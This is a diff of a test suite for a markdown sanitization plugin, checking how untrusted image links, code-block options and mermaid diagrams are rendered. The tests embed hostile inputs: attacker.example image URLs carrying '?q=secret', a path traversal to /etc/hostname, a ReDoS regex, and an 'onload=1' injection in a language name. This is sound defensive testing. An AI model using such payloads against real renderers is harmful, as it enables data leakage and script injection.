@@ -2,6 +2,9 @@ import { readFile } from 'node:fs/promises';
 
 import { createMarkdownProcessor } from '@astrojs/markdown-remark';
 import { createSatteriMarkdownProcessor } from '@astrojs/markdown-satteri';
+import type { Root } from 'mdast';
+import remarkDirective from 'remark-directive';
+import { visit } from 'unist-util-visit';
 import { describe, expect, test } from 'vitest';
 
 import type { Problem } from '../../src/integration/problems.ts';
@@ -26,20 +29,34 @@ function policy(problems: Problem[], warnings: Problem[] = []): MarkdownPolicy {
 	};
 }
 
-type Render = (markdown: string, path: string, problems: Problem[]) => Promise<string>;
+type Render = (markdown: string, path: string, problems: Problem[], warnings?: Problem[], options?: { directives?: boolean }) => Promise<string>;
+
+/** Stands in for astro-mermaid, after our plugin: a diagram becomes `<pre class="mermaid">`. */
+const mermaidSatteri = { name: 'mermaid', code: (node: { lang?: string | null; value: string }) => (node.lang === 'mermaid' ? { type: 'html' as const, value: `<pre class="mermaid">${node.value.replace(/</g, '&lt;')}</pre>` } : undefined) };
+
+const mermaidRemark = (tree: Root) => {
+	visit(tree, 'code', (node, index, parent) => {
+		if (node.lang === 'mermaid' && parent && index !== undefined) parent.children[index] = { type: 'html', value: `<pre class="mermaid">${node.value.replace(/</g, '&lt;')}</pre>` };
+	});
+};
 
 const processors: [string, Render][] = [
 	[
 		'Sätteri',
-		async (markdown, path, problems) => {
-			const processor = await createSatteriMarkdownProcessor({ mdastPlugins: [createSatteriPlugin(policy(problems))], syntaxHighlight: false });
+		async (markdown, path, problems, warnings = [], { directives = false } = {}) => {
+			const processor = await createSatteriMarkdownProcessor({
+				mdastPlugins: [createSatteriPlugin(policy(problems, warnings)), mermaidSatteri],
+				syntaxHighlight: false,
+				features: { directive: directives },
+			} as Parameters<typeof createSatteriMarkdownProcessor>[0]);
 			return (await processor.render(markdown, { fileURL: new URL(`file://${path}`) })).code;
 		},
 	],
 	[
 		'unified (remark)',
-		async (markdown, path, problems) => {
-			const processor = await createMarkdownProcessor({ remarkPlugins: [createRemarkPlugin(policy(problems))], syntaxHighlight: false });
+		async (markdown, path, problems, warnings = [], { directives = false } = {}) => {
+			const remarkPlugins = [createRemarkPlugin(policy(problems, warnings)), () => mermaidRemark];
+			const processor = await createMarkdownProcessor({ remarkPlugins: directives ? [remarkDirective, ...remarkPlugins] : remarkPlugins, syntaxHighlight: false });
 			return (await processor.render(markdown, { fileURL: new URL(`file://${path}`) })).code;
 		},
 	],
@@ -83,6 +100,58 @@ describe.each(processors)('markdown plugin under %s', (_, render) => {
 		expect(html).toContain('javascript link');
 		expect(html).toContain('<a href="https://example.com/docs">safe link</a>');
 		expect(html).toContain('<a href="../../">relative one</a>');
+	});
+
+	test('images load only from the site: remote ones become links, relative ones text', async () => {
+		const warnings: Problem[] = [];
+		const html = await render(
+			'![remote](https://attacker.example/x.png?q=secret) ![proto](//attacker.example/y.png) ![local](../../../../etc/hostname) ![site](/logo.png) ![ref][r] ![later][later]\n\n[r]: https://attacker.example/r.png\n[later]: /ok.png',
+			UNTRUSTED,
+			[],
+			warnings,
+		);
+		expect(html.match(/<img[^>]*>/g)).toEqual([expect.stringContaining('src="/logo.png"'), expect.stringContaining('src="/ok.png"')]);
+		expect(html).toContain('<a href="https://attacker.example/x.png?q=secret">remote</a>');
+		expect(html).toContain('<a href="https://attacker.example/r.png">ref</a>');
+		expect(html).not.toContain('etc/hostname"');
+		expect(warnings.map((w) => w.field)).toEqual([
+			'image https://attacker.example/x.png?q=secret',
+			'image //attacker.example/y.png',
+			'image ../../../../etc/hostname',
+			'image https://attacker.example/r.png',
+		]);
+	});
+
+	test('code options are bounded and diagrams pinned; a diagram that loads content is shown as source', async () => {
+		const warnings: Problem[] = [];
+		const html = await render(
+			[
+				'```js {1-2000000000} /(a+)+$/ title="ok"\nconst a = 1;\n```',
+				"```mermaid\n%%{init: {'themeCSS': 'x'}}%%\ngraph TB\n  A --> B\n```",
+				'```mermaid\nflowchart TB\n  A@{ img: "https://attacker.example/i.png" }\n```',
+				'```../../x onload=1\nplain\n```',
+			].join('\n\n'),
+			UNTRUSTED,
+			[],
+			warnings,
+		);
+		expect(html).toContain('<pre class="mermaid">graph TB\n  A --> B</pre>');
+		expect(html).toContain('This diagram is shown as its source, not drawn: it has an image shape');
+		expect(html).toContain('language-text');
+		expect(html.match(/class="mermaid"/g)).toHaveLength(1);
+		expect(warnings.map((w) => `${w.field}: ${w.message}`)).toEqual([
+			'code block js: options `{1-2000000000}`, `/(a+)+$/` were removed.',
+			"diagram 1: is drawn without a `%%{...}%%` directive: the site's diagram configuration applies.",
+			'diagram 2: is shown as its source, not drawn: it has an image shape (`@{ img: ... }`), which loads a picture from another site.',
+			'code block ../../x: has a language name that is not a plain name, so it is shown as plain text.',
+			'code block ../../x: options `onload=1` were removed.',
+		]);
+	});
+
+	test('an aside keeps its default icon', async () => {
+		const warnings: Problem[] = [];
+		await render(':::note{icon="does-not-exist"}\nHi\n:::', UNTRUSTED, [], warnings, { directives: true });
+		expect(warnings).toEqual([expect.objectContaining({ field: ':::note', message: 'has a custom `icon`, which is not used on PRD and spec pages.' })]);
 	});
 
 	test('leaves hand-written (trusted) documents’ HTML alone', async () => {
